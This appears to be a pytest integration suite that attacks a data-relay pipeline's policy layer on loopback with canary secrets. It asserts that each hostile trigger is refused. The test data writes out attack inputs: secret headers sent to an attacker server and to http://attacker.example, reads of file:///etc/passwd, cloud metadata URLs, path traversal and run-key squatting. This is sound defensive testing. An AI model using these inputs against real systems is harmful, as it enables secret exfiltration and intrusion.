"""The trust boundary, tried as an attacker would: anyone who may write the trigger bucket or run the step command.

Everything runs for real on loopback: fake-gcs-server (the catalog and policy in their own bucket, as deployed),
the Pub/Sub emulator, both functions, the local backend, a LIMS the policy allows and an "attacker" server it does
not. Secrets are canaries planted in the functions' and steps' environment: they may reach the LIMS on the wire and
nothing else.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from devstack import LocalStack
from pipelines.compile import COMPILED
from relay import naming
from tests.integration.conftest import TRIGGERS, relay_stack
from tests.integration.support import RESULTS, wait_for_record
from tests.servers.base import LoopbackServer, Request, Response
from tests.servers.lims import LimsServer

pytestmark = pytest.mark.integration
REPO = Path(__file__).resolve().parents[2]
CATALOG, LAB, ML = "relay-catalog", "lab-data", "ml-data"
CATALOG_URI = f"gs://{CATALOG}/v1"
POLICY_URI = f"{CATALOG_URI}/policy.yaml"
CANARIES = {
    "RELAY_SECRET_LIMS_TOKEN": "Bearer canary-lims-5f1d2c9e8b7a4e31",
    "RELAY_SECRET_HF_TOKEN": "canary-hf-0b9a8c7d6e5f4a3b",
    "RELAY_SECRET_KAGGLE_KEY": "canary-kaggle-1a2b3c4d5e6f7a8b",
}


class Attacker(LoopbackServer):
    """Accepts anything and remembers it: whatever reaches it has crossed the boundary."""

    def handle(self, request: Request) -> Response:
        return Response.json(200, {"thanks": True})


@pytest.fixture(scope="module")
def lims() -> Iterator[LimsServer]:
    with LimsServer(authorization=CANARIES["RELAY_SECRET_LIMS_TOKEN"]) as server:
        yield server


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    with Attacker() as server:
        yield server


def policy_text(lims: LimsServer) -> str:
    return f"""
version: 1
tenants:
  - name: lab
    triggers: [gs://{TRIGGERS}/lab/]
    sources: [gs://{LAB}/assay/]
    destinations:
      - {{id: ml, kind: gcs, bucket: {ML}, prefix: incoming/}}
      - {{id: lims, kind: http, url: "{lims.url}/samples/"}}
    secrets:
      - {{secret: "secret://lims-token", to: lims, field: headers.Authorization}}
  - name: other
    triggers: [gs://{TRIGGERS}/other/]
    sources: [gs://{LAB}/other/]
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, lims: LimsServer) -> Iterator[LocalStack]:
    workdir = tmp_path_factory.mktemp("trust-boundary")
    env = {
        "RELAY_BACKEND": "local",
        "RELAY_CATALOG_URI": CATALOG_URI,
        "RELAY_POLICY_URI": POLICY_URI,
        **CANARIES,
    }
    with relay_stack(workdir, env, buckets=[CATALOG, LAB, ML]) as running:
        storage = running.storage_client()
        catalog = storage.bucket(CATALOG)
        for name in ("push", "ratchet"):
            catalog.blob(f"v1/{name}.yaml").upload_from_filename(str(COMPILED / f"{name}.yaml"))
        catalog.blob("v1/policy.yaml").upload_from_string(policy_text(lims))
        lab = storage.bucket(LAB)
        lab.blob("assay/plate-1.json").upload_from_string(json.dumps({"plate": 1}))
        lab.blob("other/plate-9.json").upload_from_string(json.dumps({"plate": 9}))
        yield running


def trigger(stack: LocalStack, name: str, document: dict[str, Any]) -> str:
    generation = stack.drop(name, json.dumps(document).encode())
    return naming.derive_run_key(str(document["pipeline"]), naming.object_identity(TRIGGERS, name, generation))


def refused(stack: LocalStack, name: str, document: dict[str, Any]) -> dict[str, Any]:
    """The rejection record of a trigger the policy must refuse."""
    key = trigger(stack, name, document)
    record = wait_for_record(stack.storage_client(), f"rejected/{key}.json", "rejected", timeout=30)
    assert record["error"]["code"] == "policy_denied", record
    return record


def push(sources: list[str], destination: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"pipeline": "push", "parameters": {"sources": sources, "destination": destination, **more}}


def fields(record: dict[str, Any]) -> list[str]:
    return [p["field"] for p in record["error"]["problems"]]


def test_secrets_never_travel_to_a_host_the_policy_does_not_name(stack: LocalStack, attacker: Attacker):
    headers = {"X-A": "secret://hf-token", "X-B": "secret://kaggle-key", "X-C": "secret://lims-token"}
    record = refused(
        stack, "lab/steal.json", push([f"gs://{LAB}/assay/"], {"kind": "http", "url": attacker.url, "headers": headers})
    )
    assert fields(record) == [
        "parameters.destination",
        "parameters.destination.headers.X-A",
        "parameters.destination.headers.X-B",
        "parameters.destination.headers.X-C",
    ]
    problem = record["error"]["problems"][0]
    assert (
        "tenants.lab.destinations allows: gcs bucket ml-data" in problem["expected"]
        and attacker.url in problem["found"]
    )
    assert attacker.requests == []


def test_a_secret_is_refused_even_on_an_allowed_host_in_a_field_it_is_not_bound_to(stack: LocalStack, lims: LimsServer):
    headers = {"Authorization": "secret://lims-token", "X-Extra": "secret://hf-token"}
    record = refused(
        stack,
        "lab/extra.json",
        push([f"gs://{LAB}/assay/"], {"kind": "http", "url": f"{lims.url}/samples/{{name}}", "headers": headers}),
    )
    assert fields(record) == ["parameters.destination.headers.X-Extra"]
    elsewhere = refused(
        stack,
        "lab/other-project.json",
        push([f"gs://{LAB}/assay/"], {"kind": "http", "url": f"{lims.url}/samples/x",
                                      "headers": {"Authorization": "secret://projects/any/secrets/lims-token"}}),
    )  # fmt: skip
    assert fields(elsewhere) == ["parameters.destination.headers.Authorization"]


@pytest.mark.parametrize(
    "sources",
    [
        ["file:///etc/passwd"],
        [f"gs://{RESULTS}/runs/"],
        [f"gs://{CATALOG}/v1/"],
        [f"gs://{LAB}/other/"],
        [f"gs://{LAB}/"],
    ],
)
def test_only_the_tenants_sources_can_be_read(stack: LocalStack, sources: list[str]):
    name = f"lab/read-{abs(hash(sources[0]))}.json"
    record = refused(stack, name, push(sources, {"kind": "gcs", "bucket": ML, "prefix": "incoming/x"}))
    assert fields(record) == ["parameters.sources[0]"]


@pytest.mark.parametrize(
    "destination",
    [
        {"kind": "gcs", "bucket": CATALOG, "prefix": "v1", "overwrite": True},
        {"kind": "gcs", "bucket": RESULTS, "prefix": "runs/victim"},
        {"kind": "gcs", "bucket": ML, "prefix": "../" + RESULTS},
        {"kind": "http", "url": "https://169.254.169.254/computeMetadata/v1/"},
        {"kind": "http", "url": "http://metadata.google.internal/"},
        {"kind": "s3", "endpoint": "https://10.0.0.5", "bucket": "x"},
        {"kind": "huggingface", "repo": "lab/x", "endpoint": "http://attacker.example", "token": "secret://hf-token"},
        {"kind": "kaggle", "dataset": "attacker/x", "key": "secret://kaggle-key"},
    ],
)
def test_relays_own_storage_and_unnamed_hosts_are_never_destinations(stack: LocalStack, destination: dict[str, Any]):
    before = {b.name: b.md5_hash for b in stack.storage_client().list_blobs(CATALOG)}
    name = f"lab/poison-{abs(hash(json.dumps(destination)))}.json"
    record = refused(stack, name, push([f"gs://{LAB}/assay/"], destination))
    assert fields(record)[0] == "parameters.destination"
    assert {b.name: b.md5_hash for b in stack.storage_client().list_blobs(CATALOG)} == before


def test_ceilings_and_clusters_and_code_beyond_the_policy_are_refused(stack: LocalStack, attacker: Attacker):
    lims_like = {"kind": "http", "url": attacker.url, "max_attempts": 10**9}
    assert "parameters.destination" in fields(
        refused(stack, "lab/ceiling.json", push([f"gs://{LAB}/assay/"], lims_like))
    )
    ratchet = {
        "pipeline": "ratchet",
        "parameters": {
            "workflow": {"uri": "gs://attacker/workflow.json"},
            "destination": {"kind": "http", "url": attacker.url, "token": "secret://hf-token"},
        },
    }
    assert fields(refused(stack, "lab/ratchet.json", ratchet)) == [
        "parameters.workflow",
        "parameters.destination",
        "parameters.destination.token",
    ]
    local = {
        "pipeline": "ratchet",
        "parameters": {"workflow": {"uri": (REPO / "pipelines/examples/ratchet/workflow.json").as_uri()}},
    }
    assert fields(refused(stack, "lab/local.json", local)) == ["parameters.workflow", "parameters.destination"]
    assert attacker.requests == []


def test_a_squatter_cannot_take_another_tenants_run_key_and_the_victim_runs_the_real_code(
    stack: LocalStack, lims: LimsServer
):
    storage = stack.storage_client()
    squat = push(
        [f"gs://{LAB}/other/"],
        {"kind": "gcs", "bucket": ML, "prefix": "incoming/"},
    )
    squat["run_key"] = "nightly-2026-11-21"
    trigger(stack, "other/squat.json", squat)
    # Refused (the tenant has no destination), and in its own namespace whatever happened to it.
    wait_for_record(storage, "rejected/other--nightly-2026-11-21.json", "rejected", timeout=30)
    document = push(
        [f"gs://{LAB}/assay/"],
        {"kind": "http", "url": f"{lims.url}/samples/{{name}}", "headers": {"Authorization": "secret://lims-token"}},
    )
    document["run_key"] = "nightly-2026-11-21"
    stack.drop("lab/nightly.json", json.dumps(document).encode())
    result = wait_for_record(storage, "runs/lab--nightly-2026-11-21/result.json", "succeeded", timeout=90)
    assert result["status"] == 200 and result["metrics"]["files"] == 1
    assert [u.request.header("Authorization") for u in lims.uploads][-1] == CANARIES["RELAY_SECRET_LIMS_TOKEN"]


def run_step(
    stack: LocalStack, tmp_path: Path, step: str, parameters: dict[str, Any], inputs: dict[str, Any]
) -> dict[str, Any]:
    """The step command as someone who bypasses the functions would run it, with the deployment's environment."""
    spec = {"inputs": inputs, "outputs": {}, "parameters": parameters}
    spec["secrets"] = {f"parameters.destination.headers.{k}": v for k, v in
                       parameters.get("destination", {}).get("headers", {}).items()}  # fmt: skip
    (tmp_path / "spec.json").write_text(json.dumps(spec))
    env = {**os.environ, **stack.env(), "RELAY_BACKEND": "local"}
    done = subprocess.run(
        [sys.executable, "-m", f"pipelines.steps.{step}", str(tmp_path / "spec.json"), str(tmp_path / "result.json")],
        cwd=REPO, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stderr
    return json.loads((tmp_path / "result.json").read_text())


@pytest.mark.parametrize(
    "tenant, sources, destination",
    [
        ("lab", [f"gs://{LAB}/assay/"], {"kind": "http", "url": "ATTACKER", "headers": {"X-A": "secret://hf-token"}}),
        ("lab", ["file:///etc/passwd"], {"kind": "http", "url": "ATTACKER"}),
        ("lab", [f"gs://{LAB}/assay/"], {"kind": "gcs", "bucket": CATALOG, "prefix": "v1"}),
        ("other", [f"gs://{LAB}/assay/"], {"kind": "gcs", "bucket": ML, "prefix": "incoming/"}),
        ("", [f"gs://{LAB}/assay/"], {"kind": "gcs", "bucket": ML, "prefix": "incoming/"}),
        ("root", [f"gs://{LAB}/assay/"], {"kind": "gcs", "bucket": ML, "prefix": "incoming/"}),
    ],
)
def test_the_step_run_directly_is_held_to_the_same_policy(
    stack: LocalStack, attacker: Attacker, tmp_path: Path, tenant: str, sources: list[str], destination: dict[str, Any]
):
    before = {b.name: b.md5_hash for b in stack.storage_client().list_blobs(CATALOG)}
    destination = json.loads(json.dumps(destination).replace("ATTACKER", attacker.url))
    parameters = {"destination": destination, "tenant": tenant, "results_uri": f"gs://{CATALOG}/v1"}
    result = run_step(stack, tmp_path, "push", parameters, {"sources": sources})
    assert result["status"] == 403 and "policy_denied" in result["message"], result
    assert attacker.requests == []
    assert {b.name: b.md5_hash for b in stack.storage_client().list_blobs(CATALOG)} == before


def test_the_allowed_path_works_and_no_canary_is_anywhere_but_on_the_wire(stack: LocalStack, lims: LimsServer):
    storage = stack.storage_client()
    key = trigger(
        stack, "lab/ok.json", push([f"gs://{LAB}/assay/"], {"kind": "gcs", "bucket": ML, "prefix": "incoming/"})
    )
    assert wait_for_record(storage, f"runs/{key}/result.json", "succeeded", timeout=90)["metrics"]["files"] == 1
    canaries = [value.split()[-1].encode() for value in CANARIES.values()]
    leaks = [
        f"gs://{bucket.name}/{blob.name}"
        for bucket in storage.list_buckets()
        for blob in storage.list_blobs(bucket.name)
        if any(canary in blob.download_as_bytes() for canary in canaries)
    ]
    leaks += [
        str(path)
        for path in stack.workdir.rglob("*")
        if path.is_file() and any(canary in path.read_bytes() for canary in canaries)
    ]
    assert leaks == []
